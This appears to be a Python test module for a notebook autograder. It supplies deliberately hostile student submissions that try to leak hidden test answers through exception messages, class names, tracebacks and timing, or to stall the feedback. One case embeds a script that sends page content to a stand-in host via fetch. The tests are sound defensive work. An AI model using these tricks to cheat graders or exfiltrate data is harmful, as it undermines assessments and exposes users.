"""Hidden values by way of messages: what a failed test says reaches the student in the feedback."""

from nbformat.notebooknode import NotebookNode

from .. import target
from ..submission import Book, hostile


@hostile()
def message_of_an_exception(book: Book) -> NotebookNode:
    """Functions raise errors whose messages are their arguments."""
    return book.everything_is("def tell(*rest):\n    raise ValueError(f'given {rest!r}')", "tell")


@hostile()
def name_of_an_exception(book: Book) -> NotebookNode:
    """Functions raise errors whose class is named after their arguments."""
    return book.everything_is(
        "def tell(*rest):\n    raise type(f'Given {rest!r}', (Exception,), {})()", "tell"
    )


@hostile()
def name_of_an_assertion(book: Book) -> NotebookNode:
    """Functions fail assertions of their own, as if the test had said it."""
    return book.everything_is(
        """
        class Tells(AssertionError):
            def __str__(self):
                return "given " + repr(self.args)

        Tells.__module__, Tells.__qualname__ = "builtins", "AssertionError"

        def tell(*rest):
            assert False, repr(rest)
        """,
        "tell",
    )


@hostile()
def notes_and_causes_of_an_exception(book: Book) -> NotebookNode:
    """Notes, causes, contexts and groups of an exception carry the arguments."""
    return book.everything_is(
        """
        def tell(*rest):
            error = ExceptionGroup(repr(rest), [KeyError(rest), ValueError(repr(rest))])
            error.add_note(repr(rest))
            raise error from KeyError(rest)
        """,
        "tell",
    )


@hostile()
def class_name_of_a_result(book: Book) -> NotebookNode:
    """What is returned is of a class whose name, module and repr are the arguments."""
    return book.everything_is(
        """
        def tell(*rest):
            body = {"__repr__": lambda self: repr(rest), "__str__": lambda self: repr(rest),
                    "__module__": repr(rest), "__doc__": repr(rest),
                    "__getattr__": lambda self, name: tell(*rest)}
            return type(repr(rest), (), body)()
        """,
        "tell",
    )


@hostile()
def name_of_a_function(book: Book) -> NotebookNode:
    """What is returned is a function whose name is the arguments, with defaults to match."""
    return book.everything_is(
        """
        def tell(*rest):
            def inner(*more, **settings):
                raise TypeError(inner.__name__)
            inner.__name__ = inner.__qualname__ = repr(rest)
            return inner
        """,
        "tell",
    )


@hostile(target.FULL - target.POINTS["tally"])
def nothing_counted(book: Book) -> NotebookNode:
    """No word is counted, and the test's own KeyError names the hidden word."""
    others = [name for name in target.POINTS if name != "tally"]
    return book.solved(*others, tally="def tally(words, counts):\n    return []")


@hostile(target.FULL - target.POINTS["rescale"])
def array_comparison_of_an_honest_mistake(book: Book) -> NotebookNode:
    """NumPy's testing prints the expected array when the columns are not rescaled."""
    others = [name for name in target.POINTS if name != "rescale"]
    wrong = """
        def rescale(X, low, high):
            return (X - X.min(axis=0)) / (X.max(axis=0) - X.min(axis=0))
        """
    return book.solved(*others, rescale=wrong)


@hostile(target.FULL - target.POINTS["clamp"])
def arithmetic_of_an_honest_mistake(book: Book) -> NotebookNode:
    """Text comes where a number should, and the test's own arithmetic complains about it."""
    others = [name for name in target.POINTS if name != "clamp"]
    wrong = """
        def clamp(x, low, high):
            return max(low, min(x, high)) if x < 5 else f"{x} is above {high}"
        """
    return book.solved(*others, clamp=wrong)


@hostile()
def kind_of_exception_by_digit(book: Book) -> NotebookNode:
    """A class of error for every digit of the argument, the name spelling the number out."""
    return book.everything_is(
        """
        def tell(*rest):
            digits = "".join(c for c in repr(rest) if c.isdigit() or c == ".")
            raise type("E_" + digits, (ArithmeticError,), {"__module__": "builtins"})
        """,
        "tell",
    )


@hostile()
def markup_in_a_message(book: Book) -> NotebookNode:
    """Error names and messages are HTML with a script that would send the page away."""
    return book.everything_is(
        """
        evil = "</pre><script>fetch('http://x/' + document.body.innerHTML)</script>"

        def tell(*rest):
            raise type(evil, (Exception,), {})(evil + repr(rest))
        """,
        "tell",
    )


@hostile()
def last_line_of_the_test(book: Book) -> NotebookNode:
    """A traceback is asked for that would show the lines of the hidden test."""
    return book.everything_is(
        """
        import sys
        import traceback

        def tell(*rest):
            traceback.print_stack()
            get_ipython().magic("xmode Verbose")
            sys.excepthook = lambda *rest: traceback.print_exception(*rest)
            raise ValueError("".join(traceback.format_stack()))
        """,
        "tell",
    )


@hostile()
def sleeping_for_every_digit(book: Book) -> NotebookNode:
    """Functions take as long as their argument says, for feedback that shows times."""
    return book.solved(
        "nothing",
        clamp="""
            import time

            def clamp(x, low, high):
                time.sleep(min(abs(x) / 100_000, 1))
                print(f"{time.process_time():.2f}")
                return None
            """,
    )


@hostile()
def error_that_takes_forever_to_print(book: Book) -> NotebookNode:
    """The message of the error is computed when it is shown, and never ends."""
    return book.everything_is(
        """
        class Slow(Exception):
            def __str__(self):
                while True:
                    pass
            __repr__ = __str__

        def tell(*rest):
            raise Slow(rest)
        """,
        "tell",
    )


@hostile()
def error_of_enormous_name(book: Book) -> NotebookNode:
    """The name of the error's class and its message are ten million letters each."""
    return book.everything_is(
        "def tell(*rest):\n    raise type('E' * 10**7, (Exception,), {})('m' * 10**7)", "tell"
    )
